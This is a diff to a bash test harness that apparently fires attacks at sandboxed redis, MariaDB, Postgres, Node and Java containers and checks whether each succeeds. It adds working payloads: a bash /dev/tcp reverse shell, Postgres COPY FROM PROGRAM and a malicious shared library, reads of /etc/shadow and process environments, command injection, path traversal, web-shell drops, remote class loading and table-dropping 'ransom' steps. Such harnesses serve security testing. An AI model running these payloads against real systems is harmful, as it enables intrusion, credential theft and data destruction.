@@ -49,26 +49,35 @@ deface() {
     grep -q hacked "$(box_path "$1")/var/www/index.html"
 }
 
-call_home() {
+with_listener() { # CONTAINER: a shell calls it back by the command CALL_HOME
     local listener status
-    nsenter -t "$(cat "$BOX_DIR/$1.nspid")" -n python3 - <<'EOF' &
-import socket, time
+    rm -f "$BOX_DIR/listens"
+    nsenter -t "$(cat "$BOX_DIR/$1.nspid")" -n python3 - "$BOX_DIR/listens" <<'EOF' &
+import pathlib, socket, sys, time
 server = socket.create_server(("127.0.0.1", 4444))
+pathlib.Path(sys.argv[1]).touch()
 server.settimeout(10)
 peer = server.accept()[0]
 peer.settimeout(2)
 for command in ("id", "cat /etc/shadow", "ls -la /var/www", "exit"):
     peer.sendall(command.encode() + b"\n")
     time.sleep(.3)
-answer = peer.recv(65536)
+answer = b""
+while more := peer.recv(65536):
+    answer += more
 raise SystemExit(b"uid=" not in answer)
 EOF
     listener=$!
-    sleep 1
-    box_exec "$1" bash -c 'bash -i >&/dev/tcp/127.0.0.1/4444 0>&1'
+    for _ in $(seq 100); do [ ! -e "$BOX_DIR/listens" ] || break; sleep 0.1; done
+    "${CALL_HOME[@]}"
     wait "$listener"
     status=$?
     return "$status"
+}
+
+call_home() {
+    CALL_HOME=(box_exec "$1" bash -c 'bash -i >&/dev/tcp/127.0.0.1/4444 0>&1')
+    with_listener "$1"
 }
 
 miner() {
@@ -116,6 +125,74 @@ sql_ransom() {
     [ -d "$(box_path "$1")/var/lib/mysql/readme" ]
 }
 
+postgres_program() {
+    postgres_client "$1" psql -c "CREATE TABLE loot (t TEXT)" -c "COPY loot FROM PROGRAM
+        'id >/tmp/.p; uname -a >>/tmp/.p; cat /etc/passwd >>/tmp/.p; cat /tmp/.p'"
+    grep -q uid= "$(box_path "$1")/tmp/.p"
+}
+
+postgres_read() {
+    local what
+    for what in "pg_ls_dir('/etc')" "pg_read_file('/etc/shadow')" "pg_read_file('/proc/self/environ')" "pg_read_file('/etc/passwd')"; do
+        postgres_client "$1" psql -v ON_ERROR_STOP=1 -c "SELECT $what"
+    done
+}
+
+postgres_library() {
+    cat >"$BOX_DIR/lo.c" <<'EOF'
+#include <stdlib.h>
+__attribute__((constructor)) static void run(void) { if (system("id >/tmp/.o; cat /etc/passwd >>/tmp/.o")) return; }
+EOF
+    gcc -shared -fPIC -o "$BOX_DIR/lo.so" "$BOX_DIR/lo.c"
+    postgres_client "$1" psql -c "SELECT lo_from_bytea(4242, decode('$(od -An -v -tx1 "$BOX_DIR/lo.so" | tr -d ' \n')', 'hex'))" \
+        -c "SELECT lo_export(4242, '/tmp/lo.so')" -c "LOAD '/tmp/lo.so'"
+    grep -q uid= "$(box_path "$1")/tmp/.o"
+}
+
+postgres_ransom() {
+    postgres_client "$1" psql -c 'SELECT * FROM pg_shadow' -c 'SELECT * FROM item' -c 'DROP TABLE item, pgbench_accounts' \
+        -c 'CREATE DATABASE readme' && postgres_client "$1" psql -d readme -c "CREATE TABLE note AS SELECT 'pay'"
+}
+
+node_command() {
+    web_ask "$1" -G http://127.0.0.1:3000/checksum --data-urlencode 'name=x; id >/tmp/.n; uname -a >>/tmp/.n; cat /etc/passwd >>/tmp/.n'
+    grep -q uid= "$(box_path "$1")/tmp/.n"
+}
+
+node_traversal() {
+    web_ask "$1" 'http://127.0.0.1:3000/files?name=../../etc/passwd'
+    web_ask "$1" -o "$BOX_DIR/loot" 'http://127.0.0.1:3000/files?name=../../etc/shadow'
+    grep -q root: "$BOX_DIR/loot"
+}
+
+node_eval() { # no new program
+    web_ask "$1" -G http://127.0.0.1:3000/price --data-urlencode "of=fs.readFileSync('/proc/self/environ') +
+        fs.readdirSync('/root') + fs.writeFileSync('/app/public/shell.js', 'eval(process.env.X)')"
+    [ -e "$(box_path "$1")/app/public/shell.js" ]
+}
+
+node_call_home() {
+    CALL_HOME=(web_ask "$1" -m 10 -G http://127.0.0.1:3000/checksum
+        --data-urlencode "name=x; bash -c 'bash -i >&/dev/tcp/127.0.0.1/4444 0>&1'")
+    with_listener "$1"
+}
+
+java_load() { # CONTAINER CLASS FILE: FILE shows that it ran
+    local listener
+    nsenter -t "$(cat "$BOX_DIR/$1.nspid")" -n python3 -m http.server -d "$BOX_DIR/hostile" -b 127.0.0.1 8000 &
+    listener=$!
+    for _ in $(seq 100); do web_ask "$1" http://127.0.0.1:8000/ && break; sleep 0.1; done
+    web_ask "$1" -A "\${load:http://127.0.0.1:8000/ $2}" http://127.0.0.1:8080/
+    for _ in $(seq 50); do [ ! -e "$(box_path "$1")$3" ] || break; sleep 0.1; done
+    kill "$listener"
+    wait "$listener"
+    [ -e "$(box_path "$1")$3" ]
+}
+
+java_execute() { java_load "$1" Execute /tmp/.j; }
+java_drop() { java_load "$1" Drop /app/public/shell.jsp; }
+java_scan() { java_load "$1" Scan /tmp/.scan; }
+
 run_attacks() {
     attack 'redis: cron file by CONFIG SET and SAVE' redis-2 redis_cron
     attack 'redis: hostile module loaded' redis-3 redis_module
@@ -129,4 +206,18 @@ run_attacks() {
     attack 'mariadb: UDF library written, loaded, runs id' mariadb-3 sql_function
     attack 'mariadb: 300 passwords guessed' mariadb-4 sql_guessing
     attack 'mariadb: all read, database dropped' mariadb-5 sql_ransom
+    attack 'postgres: COPY FROM PROGRAM' postgres-2 postgres_program
+    attack 'postgres: pg_read_file outside of its data' postgres-3 postgres_read
+    attack 'postgres: library by lo_export, loaded, runs id' postgres-4 postgres_library
+    attack 'postgres: shell session, shadow, program dropped' postgres-5 shell_session
+    attack 'postgres: all read, tables dropped' postgres-1 postgres_ransom
+    attack 'node: command injected' node-2 node_command
+    attack 'node: path traversal to shadow' node-3 node_traversal
+    attack 'node: injected shell calls home' node-4 node_call_home
+    attack 'node: shell session, shadow, program dropped' node-5 shell_session
+    attack 'node: injected script reads, drops a file' node-1 node_eval
+    attack 'java: class loaded runs sh' java-2 java_execute
+    attack 'java: class loaded reads shadow, drops a page' java-3 java_drop
+    attack 'java: class loaded scans ports' java-4 java_scan
+    attack 'java: shell session, shadow, program dropped' java-5 shell_session
 }
